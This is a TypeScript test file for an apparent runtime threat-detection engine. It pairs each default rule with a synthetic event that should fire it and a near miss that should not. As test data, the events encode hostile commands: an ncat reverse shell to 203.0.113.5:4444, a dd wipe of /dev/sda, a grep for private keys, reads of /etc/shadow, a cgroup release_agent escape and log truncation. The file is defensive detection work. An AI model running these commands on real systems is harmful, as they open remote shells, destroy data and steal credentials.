/**
 * Our default rules (rules/peregrine_rules.yaml), each on an event it must fire on and a near miss it must not.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { FdType, L4Proto, ProcFlag, type Alert } from '@peregrine/event';
import { loadRulesText, parseRulesConfig } from '../../src/index.ts';
import { BatchBuilder, O, flag } from './batch-builder.ts';

const AF_PACKET = flag('socket_families', 'AF_PACKET');
const AF_INET = flag('socket_families', 'AF_INET');
const PTRACE_ATTACH = flag('ptrace_requests', 'PTRACE_ATTACH');
const PTRACE_TRACEME = flag('ptrace_requests', 'PTRACE_TRACEME');
const PTRACE_PEEKDATA = flag('ptrace_requests', 'PTRACE_PEEKDATA');

const rules = loadRulesText(
  [{ name: 'peregrine_rules.yaml', content: readFileSync(new URL('../../../../rules/peregrine_rules.yaml', import.meta.url), 'utf8') }],
  parseRulesConfig({ rule_matching: 'all' }),
);

type Build = (b: BatchBuilder) => void;
const exec = (b: BatchBuilder, proc: number) => b.event('execve', { proc, args: {} });
const pod = (b: BatchBuilder, privileged = false) => b.container({ privileged });
function open(b: BatchBuilder, proc: number, path: string, flags: number, raw = path) {
  b.event('openat', { proc, fd: b.fd({ name: path, openFlags: flags }), res: 3, args: { fd: 3, name: raw, flags } });
}
function connect(b: BatchBuilder, proc: number, dip: string, dport: number) {
  const fd = b.fd({ num: 3, type: FdType.Ipv4, name: `10.1.2.3:40000->${dip}:${dport}`, l4proto: L4Proto.Tcp, sip: '10.1.2.3', sport: 40000, dip, dport });
  b.event('connect', { proc, fd, res: 0, args: { res: 0, fd: 3 } });
}

const CASES: [rule: string, fire: Build, miss: Build][] = [
  ['Secret file read by unexpected program',
    (b) => open(b, b.proc({ name: 'python3' }), '/etc/shadow', O.RDONLY),
    (b) => open(b, b.proc({ name: 'sshd' }), '/etc/shadow', O.RDONLY)],
  ['Path traversal to secret file',
    (b) => open(b, b.proc({ name: 'php' }), '/etc/passwd', O.RDONLY, '/var/www/../../etc/passwd'),
    (b) => open(b, b.proc({ name: 'php' }), '/etc/passwd', O.RDONLY)],
  ['Search for private keys or cloud credentials',
    (b) => exec(b, b.proc({ name: 'grep', args: ['-rl', 'BEGIN OPENSSH PRIVATE KEY', '/home'] })),
    (b) => exec(b, b.proc({ name: 'grep', args: ['-rl', 'TODO', '/home'] }))],
  ['Shell spawned by a server process',
    (b) => exec(b, b.proc({ name: 'sh', args: ['-c', 'id'] }, [{ name: 'nginx' }])),
    (b) => exec(b, b.proc({ name: 'sh', args: ['-c', 'id'] }, [{ name: 'cron' }]))],
  ['Service account ran an interactive command',
    (b) => exec(b, b.proc({ name: 'id', user: 'nobody' }, [{ name: 'bash' }, { name: 'sshd' }])),
    (b) => exec(b, b.proc({ name: 'id', user: 'nobody' }, [{ name: 'bash' }, { name: 'cron' }]))],
  ['Kubernetes API contacted from a container',
    (b) => connect(b, b.proc({ name: 'curl' }, [], pod(b)), '10.96.0.1', 443),
    (b) => connect(b, b.proc({ name: 'curl' }, [], pod(b)), '10.96.0.10', 53)],
  ['Netcat with command execution in container',
    (b) => exec(b, b.proc({ name: 'ncat', args: ['--sh-exec', 'sh', '203.0.113.5', '4444'] }, [], pod(b))),
    (b) => exec(b, b.proc({ name: 'ncat', args: ['203.0.113.5', '80'] }, [], pod(b)))],
  ['Standard stream redirected to a socket in container',
    (b) => {
      const fd = b.fd({ num: 0, type: FdType.Ipv4, name: '10.1.2.3:40000->203.0.113.5:4444', l4proto: L4Proto.Tcp, sip: '10.1.2.3', sport: 40000, dip: '203.0.113.5', dport: 4444 });
      b.event('dup2', { proc: b.proc({ name: 'sh' }, [], pod(b)), fd, res: 0, args: { res: 0, oldfd: 3, newfd: 0 } });
    },
    (b) => {
      const fd = b.fd({ num: 0, type: FdType.Pipe, name: 'pipe:[1234]' });
      b.event('dup2', { proc: b.proc({ name: 'sh' }, [], pod(b)), fd, res: 0, args: { res: 0, oldfd: 3, newfd: 0 } });
    }],
  ['Raw packet socket in container',
    (b) => b.event('socket', { proc: b.proc({ name: 'scapy' }, [], pod(b)), dir: 0, args: { domain: AF_PACKET, type: 3, proto: 0 } }),
    (b) => b.event('socket', { proc: b.proc({ name: 'scapy' }, [], pod(b)), dir: 0, args: { domain: AF_INET, type: 1, proto: 0 } })],
  ['SSH client to an unusual port',
    (b) => connect(b, b.proc({ name: 'ssh', exe: '/usr/bin/ssh' }), '203.0.113.5', 443),
    (b) => connect(b, b.proc({ name: 'ssh', exe: '/usr/bin/ssh' }), '203.0.113.5', 22)],
  ['Log file truncated',
    (b) => open(b, b.proc({ name: 'sh' }), '/var/log/auth.log', O.WRONLY | O.TRUNC),
    (b) => open(b, b.proc({ name: 'sh' }), '/var/log/auth.log', O.WRONLY)],
  ['Bulk data destruction tool run',
    (b) => exec(b, b.proc({ name: 'dd', args: ['if=/dev/zero', 'of=/dev/sda'] })),
    (b) => exec(b, b.proc({ name: 'dd', args: ['if=/dev/zero', 'of=/tmp/blank'] }))],
  ['Link created to a secret file',
    (b) => b.event('symlinkat', { proc: b.proc({ name: 'ln' }), args: { res: 0, target: '/etc/shadow', linkpath: '/tmp/x' } }),
    (b) => b.event('symlinkat', { proc: b.proc({ name: 'ln' }), args: { res: 0, target: '/etc/motd', linkpath: '/tmp/x' } })],
  ['Kernel module loaded from a container',
    (b) => b.event('finit_module', { proc: b.proc({ name: 'insmod' }, [], pod(b)), args: { res: 0, fd: 3 } }),
    (b) => b.event('finit_module', { proc: b.proc({ name: 'insmod' }), args: { res: 0, fd: 3 } })],
  ['Debugfs run in privileged container',
    (b) => exec(b, b.proc({ name: 'debugfs' }, [], pod(b, true))),
    (b) => exec(b, b.proc({ name: 'debugfs' }, [], pod(b, false)))],
  ['Cgroup release_agent written from a container',
    (b) => open(b, b.proc({ name: 'sh' }, [], pod(b)), '/mnt/cg/release_agent', O.WRONLY),
    (b) => open(b, b.proc({ name: 'sh' }, [], pod(b)), '/mnt/cg/release_agent', O.RDONLY)],
  ['Process attached with ptrace',
    (b) => b.event('ptrace', { proc: b.proc({ name: 'inject' }), dir: 0, args: { request: PTRACE_ATTACH, pid: 42 } }),
    (b) => b.event('ptrace', { proc: b.proc({ name: 'gdb' }), dir: 0, args: { request: PTRACE_ATTACH, pid: 42 } })],
  ['Process traced itself',
    (b) => b.event('ptrace', { proc: b.proc({ name: 'm' }), dir: 0, args: { request: PTRACE_TRACEME, pid: 0 } }),
    (b) => b.event('ptrace', { proc: b.proc({ name: 'm' }), dir: 0, args: { request: PTRACE_PEEKDATA, pid: 0 } })],
  ['Program run from shared memory',
    (b) => exec(b, b.proc({ name: 'x', exe: '/dev/shm/x', exepath: '/dev/shm/x' })),
    (b) => exec(b, b.proc({ name: 'x', exe: '/usr/bin/x', exepath: '/usr/bin/x' }))],
  ['Program not in the container image run',
    (b) => exec(b, b.proc({ name: 'xmrig', flags: ProcFlag.ExeUpperLayer }, [], pod(b))),
    (b) => exec(b, b.proc({ name: 'xmrig', flags: ProcFlag.ExeUpperLayer }))],
  ['Program run from memory',
    (b) => exec(b, b.proc({ name: 'payload', flags: ProcFlag.ExeFromMemfd }, [{ name: 'bash' }])),
    (b) => exec(b, b.proc({ name: 'runc', flags: ProcFlag.ExeFromMemfd }, [{ name: 'containerd-shim' }]))],
];

function fired(build: Build): string[] {
  const b = new BatchBuilder();
  build(b);
  const out: Alert[] = [];
  rules.evaluate(b.batch, (a) => out.push(a));
  return out.map((a) => a.rule);
}

describe('our default rules: fire and near miss', () => {
  it('every rule is covered (the two seed rules in ruleset.test.ts)', () => {
    const covered = new Set([...CASES.map((c) => c[0]), 'Interactive shell in container', 'Write below monitored directory']);
    assert.deepEqual(rules.rules.map((r) => r.name).filter((n) => !covered.has(n)), []);
  });
  for (const [rule, fire, miss] of CASES) {
    it(`${rule}: fires`, () => assert.ok(fired(fire).includes(rule), JSON.stringify(fired(fire))));
    it(`${rule}: near miss does not fire`, () => assert.ok(!fired(miss).includes(rule), JSON.stringify(fired(miss))));
  }
});
